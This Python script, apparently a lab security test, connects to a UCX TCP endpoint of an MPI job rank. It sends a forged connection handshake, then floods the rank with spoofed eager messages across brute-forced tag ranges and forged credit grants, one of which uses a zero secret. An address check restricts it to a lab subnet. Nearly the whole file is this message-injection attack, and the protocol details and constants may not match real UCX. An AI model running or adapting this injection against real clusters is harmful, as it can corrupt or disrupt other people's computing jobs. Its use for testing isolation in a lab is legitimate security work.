#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""Messages of nobody, for a rank of a job in the lab: does it take them?

    forge.py ADDRESS PORT

Speaks what UCX speaks over TCP: connects to a port of UCX and sends messages
with all tags that the first communicator of a job had before tags were secret,
1000 bytes each as mpi_doors sends them, and grants as they were. ADDRESS must be
one of the lab's.
"""
import ipaddress
import socket
import struct
import sys

LAB = ipaddress.ip_network("10.98.0.0/16")
LEN = 1000
MAGIC = 0xCAFEBABE12345678  # of UCX's TCP
CONNECT, EAGER, ACTIVE = 32, 2, 23  # what a frame is
GRANT = 7  # our active message


def frame(kind, body):
    return struct.pack("<BI", kind, len(body)) + body


def hello(port):
    """Connection request number 0 of an interface at that port, which nobody calls back."""
    own = socket.AF_INET.to_bytes(2, "little") + port.to_bytes(2, "big") + bytes(
        [10, 98, 255, 254]) + bytes(8)
    return struct.pack("<Q", MAGIC) + frame(CONNECT, struct.pack("<IBQ", 1, 0, 0) + own)


def tag(channel, call, seq, group, src):
    return (channel << 28 | call << 24 | seq) << 32 | group << 18 | src


def forgeries():
    for channel in range(4):
        for call in range(1, 5):
            for seq in range(2):
                for src in range(4):
                    yield frame(EAGER, struct.pack("<Q", tag(channel, call, seq, 0, src)) + b"\x66" * LEN)
    for src in range(4):  # a million messages may be sent, and the same with a secret of zero
        for grant in (struct.pack("<IIQ", 0, src, 1 << 20), struct.pack("<QIIQ", 0, 0, src, 1 << 20)):
            yield frame(ACTIVE, struct.pack("<HHI", GRANT, 0, len(grant)) + grant)


def main():
    if len(sys.argv) != 3 or ipaddress.ip_address(sys.argv[1]) not in LAB:
        sys.exit(f"usage: forge.py ADDRESS PORT, with an address in {LAB}")
    with socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=1) as victim:
        victim.sendall(hello(1))
        for forgery in forgeries():
            victim.sendall(forgery)
        victim.shutdown(socket.SHUT_WR)
        try:
            while victim.recv(4096):  # until it has read them all
                pass
        except (TimeoutError, ConnectionError):
            pass


main()
